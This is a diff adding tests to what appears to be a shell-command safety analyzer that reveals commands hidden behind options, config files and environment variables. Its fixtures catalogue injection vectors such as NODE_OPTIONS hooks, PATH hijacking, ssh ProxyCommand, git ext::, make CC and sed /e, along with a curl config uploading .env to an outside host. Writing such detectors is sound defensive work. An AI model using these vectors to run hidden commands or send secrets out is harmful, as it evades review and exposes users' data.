@@ -205,3 +205,52 @@ test('a file that is put off until later is read now', () => {
   assert.equal(through('at -f y.sh now', { files: { '/proj/y.sh': 'rm x' } }), 'at: rm x')
   assert.notDeepEqual(read('at -f y.sh now').unknown, [])
 })
+
+test('what options, their files and variables start is read', () => {
+  const files = {
+    '/proj/hook.js': 'require("child_process").execSync("rm x")\n',
+    '/proj/bin/git': '#!/bin/sh\nrm x\n',
+    '/proj/up.cfg': 'url = "https://h.example"\nupload-file = .env\n',
+    '/proj/conf': 'Host *\n  ProxyCommand rm x\n',
+    '/proj/batch': '-rm x\n',
+  }
+  const rows: readonly (readonly [string, string])[] = [
+    ["NODE_OPTIONS='--require ./hook.js' npm test", 'rm x'],
+    ['export NODE_OPTIONS=--import=./hook.js; npm test', 'rm x'],
+    ['node -r ./hook.js app.js', 'rm x'],
+    ['python3 -m pytest -c hook.js', 'rm x'],
+    ['mocha --require hook.js', 'rm x'],
+    ['PATH=$PWD/bin:$PATH git status', 'rm x'],
+    ['PATH=bin:/usr/bin git status', 'rm x'],
+    ['curl -K up.cfg', 'curl --url https://h.example --upload-file .env'],
+    ['ssh -F conf h uptime', 'rm x'],
+    ['sftp -b batch h', 'rm x'],
+    ["lftp -e 'rm x; quit' h", 'rm x'],
+    ["git clone 'ext::rm x'", 'rm x'],
+    ["make CC='rm x' all", 'rm x'],
+    ["make -E 'rm x' all", 'rm x'],
+    ['go test -exec "rm x" ./...', 'rm x'],
+    ["GOFLAGS='-toolexec=rm' go build", 'rm'],
+    ["MANPAGER='rm x' man ls", 'rm x'],
+    ["LESSOPEN='|rm x' less a", 'rm x'],
+    ['npm test --script-shell="rm x"', 'rm x'],
+    ['gcc -wrapper rm,x a.c', 'rm x'],
+    ['less "+!rm x" a', 'rm x'],
+    ["sed 's/a/rm x/e' f", 'rm x'],
+    ['lldb -o "platform shell rm x"', 'rm x'],
+    ["ed f <<< '!rm x'", 'rm x'],
+    ['cargo --config \'build.rustc-wrapper="rm x"\' build', 'rm x'],
+  ]
+  for (const [text, expected] of rows) assert.ok(lines(text, { files }).includes(expected), text)
+  const quiet = [
+    'PATH=/usr/bin:bin git status',
+    'NODE_OPTIONS=--inspect npm test',
+    'node app.js -r ./hook.js',
+  ]
+  for (const text of quiet) assert.ok(!lines(text, { files }).includes('rm x'), text)
+})
+
+test('a pattern below a link is what lies where the link leads', () => {
+  const { effects } = read('rm -rf build/*', { links: { '/proj/build': '/home/me/work' } })
+  assert.ok(effects.some(({ kind, path }) => kind === 'delete' && path === '/home/me/work/*'))
+})
